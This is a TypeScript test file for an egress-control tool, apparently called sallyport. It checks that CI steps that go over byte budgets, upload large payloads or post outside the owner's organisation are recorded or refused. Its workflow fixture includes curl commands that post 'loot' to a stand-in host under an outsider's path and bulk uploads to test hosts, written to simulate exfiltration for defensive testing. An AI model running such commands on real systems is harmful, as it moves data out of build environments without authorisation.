// SPDX-License-Identifier: Apache-2.0
// What is told of data that leaves over allowed doors: in the journal, with bytes, names and step.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { after, before, test } from 'node:test'
import type { EventEnvelope } from '@sallyport/core'
import { Internet } from '../_internet/internet.ts'
import { type JsonRun, World } from '../_world.ts'

const world = new World()
let internet: Internet

before(async () => {
  internet = await Internet.start()
})
after(async () => {
  await internet[Symbol.asyncDispose]()
  await world[Symbol.asyncDispose]()
})

const MiB = 2 ** 20

const RULES = `version: 1
jobs:
  build:
    steps:
      budget:
        egress: [{ host: web.test, port: 443, budget: { out: 1MiB } }]
      upload:
        egress: [api.test:443]
      other:
        egress: [{ host: forge.test, methods: [POST], path: /repos/acme/** }]
`

const WORKFLOW = `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - id: budget
        run: head -c 4000000 /dev/zero | curl -sS --cacert ca.pem -T - https://web.test/upload/x || true
      - id: upload
        run: head -c 30000000 /dev/zero | curl -sS --cacert ca.pem -T - https://api.test/upload/x
      - id: other
        run: for owner in acme eve; do curl -sS -d loot https://forge.test/repos/$owner/x; done
`

const eventsOf = ({ events }: JsonRun, type: string, step: string): readonly EventEnvelope['data'][] =>
  events.flatMap((event) => (event.type === type && event.step === step && event.job === 'build' ? [event.data] : []))

test('a budget, an upload, a path outside of the own organisation and a first destination are events with bytes, names and step', async () => {
  const files = { 'sallyport.yml': RULES, 'ca.pem': readFileSync(internet.certificates.authority, 'utf8') }
  const repository = world.workflow(WORKFLOW, files)
  const settings = { wrap: internet.wrap }
  const run = await world.runJson(repository, ['--config', internet.operatorFile()], settings)
  assert.equal(run.exitCode, 0, run.why)

  const [budget] = eventsOf(run, 'door.alert', '2')
  assert.equal(budget?.['kind'], 'budget')
  assert.match(String(budget?.['detail']), /web\.test:443/)
  assert.ok(Number(budget?.['bytes']) > MiB / 2, JSON.stringify(budget))
  assert.deepEqual(
    eventsOf(run, 'door.refused', '2').map(({ code, target }) => [code, target]),
    [['budget', 'web.test:443']],
  )

  const [upload] = eventsOf(run, 'door.alert', '3')
  assert.deepEqual([upload?.['kind'], Number(upload?.['bytes']) > MiB], ['upload', true], JSON.stringify(upload))
  assert.match(String(upload?.['detail']), /api\.test:443/)
  assert.ok(Number(eventsOf(run, 'door.closed', '3')[0]?.['bytesOut']) > 30_000_000)

  assert.deepEqual(
    eventsOf(run, 'door.refused', '4').map(({ code, target }) => [code, target]),
    [['path', 'POST https://forge.test/repos/eve/x']],
  )
  assert.match(run.output('build', '4'), /^sallyport: refused POST https:\/\/forge\.test\/repos\/eve\/x: /m)

  const first = ['2', '3', '4'].map((step) => eventsOf(run, 'door.first-seen', step).map(({ host, port }) => `${host}:${port}`))
  assert.deepEqual(first, [['web.test:443'], ['api.test:443'], ['forge.test:443']])
  const again = await world.runJson(repository, ['--config', internet.operatorFile()], settings)
  assert.equal(again.events.filter(({ type }) => type === 'door.first-seen').length, 0)
})

test('the budget of an operator’s rule is kept, whatever the request asks for and however the connection is carried', async () => {
  const config = internet.operatorFile({
    egress: '  allow: [{ host: web.test, budget: { out: 1MiB } }, { host: api.test, path: /upload/**, budget: { out: 1MiB } }]',
  })
  const cwd = world.repository({ 'ca.pem': readFileSync(internet.certificates.authority, 'utf8') })
  for (const [host, trusted] of [
    ['web.test', '--cacert ca.pem'],
    ['api.test', ''],
  ]) {
    const script = `head -c 8000000 /dev/zero | curl -sS ${trusted} -T - https://${host}/upload/x`
    const { document } = await world.exec(['bash', '-c', script], ['--config', config, '--allow', `${host}`], {
      cwd,
      wrap: internet.wrap,
    })
    assert.deepEqual(
      document.doors.refused.map(({ code, target, rule }) => [code, target, rule?.endsWith('.yml:5')]),
      [['budget', `${host}:443`, true]],
    )
    assert.ok((document.doors.used[0]?.bytesOut ?? 0) <= MiB, JSON.stringify(document.doors.used))
  }
})
